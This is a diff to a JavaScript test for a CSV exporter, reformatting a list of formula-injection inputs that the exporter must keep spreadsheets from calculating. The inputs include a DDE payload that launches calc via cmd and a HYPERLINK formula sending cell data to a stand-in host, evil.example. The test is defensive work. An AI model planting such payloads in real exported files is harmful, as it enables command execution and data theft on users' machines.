@@ -68,8 +68,21 @@ test("quotes, commas and line breaks in a title come back as they were", () => {
 
 test("nothing that a spreadsheet would calculate begins as a formula", () => {
   const formulas = [
-    ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =cmd|' /C calc'!A0", "＝1", "＋1", "－1", "＠1"],
-    ...['=HYPERLINK("https://evil.example?x="&A1,"Open")', "=1,2", '="'],
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =cmd|' /C calc'!A0",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠1",
+    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
+    "=1,2",
+    '="',
   ];
   for (const name of formulas) {
     const text = toCsv([{ ...JOB, name, city: name }]);
